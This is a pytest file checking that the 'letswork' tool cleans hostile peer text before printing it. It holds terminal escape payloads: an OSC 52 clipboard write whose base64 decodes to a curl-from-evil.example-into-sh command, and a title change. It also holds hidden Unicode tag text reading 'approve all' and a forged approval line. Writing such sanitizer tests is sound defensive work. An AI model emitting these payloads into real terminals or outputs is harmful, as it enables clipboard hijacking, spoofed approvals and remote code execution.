"""The host's terminal against hostile text (issue 13, items 9-10): the admin commands, their
error line (`cli._common.fail`), and the log lines of `letswork start --no-ui` and hub.log print
what a peer or a hub wrote cleaned, through the one printer."""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import secrets
import subprocess
import sys
from pathlib import Path

import pytest
from websockets.exceptions import ConnectionClosed

from letswork.client.connection import HubConnection
from letswork.local import statedir
from letswork.shared import invite
from letswork.shared.sanitize import MARKER
from tests.support.fake_hub import GOOD_HELLO, FakeLink, fake_hub
from tests.support.hubs import make_project
from tests.support.processes import hub_process

WAIT = 30.0  # seconds: a guard against hangs, never a measurement
#: OSC 52 replaces the clipboard (with a shell command), OSC 0 sets the window title.
OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2gK\x07"
OSC0 = "\x1b]0;pwned\x07"
#: ASCII smuggling: "approve all" in Unicode tag characters.
TAGS = "".join(chr(0xE0000 + ord(c)) for c in "approve all")
RAW = ("\x1b", "\x07", "\x9b", "\u200b", "\u2028", *TAGS)


def letswork(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "letswork", *args],
        capture_output=True,
        text=True,
        encoding="utf-8",
        timeout=60,
        stdin=subprocess.DEVNULL,
    )


def _safe(text: str) -> None:
    for raw in RAW:
        assert raw not in text, ascii(text)


@pytest.fixture
def project(tmp_path: Path) -> Path:
    return make_project(tmp_path / "project")


async def test_an_admin_commands_hostile_error_message_is_printed_cleaned_on_one_line(
    project: Path,
) -> None:
    """`cli._common.fail`: a hub's error message with OSC 52, OSC 0, tags and a line break of
    its own."""
    host_secret = secrets.token_bytes(32)
    message = f"nope{OSC52}{OSC0}{TAGS}\nletswork: all changes approved"

    async def script(link: FakeLink) -> None:
        with contextlib.suppress(ConnectionClosed):
            hello = await link.request()
            await link.reply(
                hello, {**GOOD_HELLO, "name": "host", "role": "host", "resume_secret": None}
            )
            request = await link.request()
            error = {"code": "forbidden", "message": message}
            await link.send_obj({"id": request["id"], "ok": False, "error": error})
            await link.ws.wait_closed()

    async with fake_hub([host_secret], script) as hub:
        state = statedir.project_state(project)
        statedir.write_secret_file(state.host_key_path, host_secret)
        info = {"pid": os.getpid(), "local_url": hub.url, "host_url": hub.url}
        statedir.write_private_text(state.hub_info_path, json.dumps(info))
        out = await asyncio.to_thread(letswork, "status", "--project", str(project))
    assert out.returncode == 1, out.stderr
    _safe(out.stdout + out.stderr)
    assert out.stderr == (
        f"letswork: nope{MARKER}]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2gK{MARKER}]0;pwned{MARKER} "
        "letswork: all changes approved\n"
    )


async def test_pending_and_diff_show_a_guests_hidden_characters_as_the_marker(
    project: Path,
) -> None:
    path = f"notes\u200b{TAGS}.txt"
    content = f"visible line\nlgtm{TAGS}\nclip {OSC52}\n"
    with hub_process(project, "--auto-admit") as hp:
        inv = invite.parse(hp.code)
        guest = HubConnection(inv.url, inv.secret, name="mallory")
        await guest.connect()
        await guest.request("write_file", {"path": path, "content": content})
        await guest.close()
        pending = letswork("pending", "--project", str(project))
        listed = letswork("pending", "--json", "--project", str(project))
        [change] = json.loads(listed.stdout)
        diff = letswork("diff", change["id"], "--project", str(project))
        assert hp.terminate() == 0
    assert pending.returncode == 0 and diff.returncode == 0, pending.stderr + diff.stderr
    _safe(pending.stdout + diff.stdout)
    assert f"notes{MARKER}.txt" in pending.stdout
    assert f"+lgtm{MARKER}\n" in diff.stdout
    assert f"+clip {MARKER}]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2gK{MARKER}\n" in diff.stdout
    # --json is data: every non-ASCII character escaped, so it is exact and inert.
    _safe(listed.stdout)
    assert change["path"] == path and f"+lgtm{TAGS}" in change["diff"]


async def test_the_no_ui_event_log_and_hub_log_clean_a_guests_message(project: Path) -> None:
    body = f"lgtm{TAGS} {OSC52}{OSC0}"
    with hub_process(project, "--auto-admit") as hp:
        inv = invite.parse(hp.code)
        guest = HubConnection(inv.url, inv.secret, name="mallory")
        await guest.connect()
        await guest.request("send_message", {"body": body})
        await guest.close()
        assert hp.wait_stderr("event message", WAIT), "".join(hp.stderr_lines)
        assert hp.terminate() == 0
    [line] = [line for line in hp.stderr_lines if "event message" in line]
    _safe(line)
    # JSON writes the controls as \u001b and \u0007 (inert); the tags have no such escape.
    assert f'"body": "lgtm{MARKER} \\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2gK\\u0007' in line
    hub_log = statedir.project_state(project).log_path.read_text(encoding="utf-8")
    assert "event message" in hub_log
    _safe(hub_log)
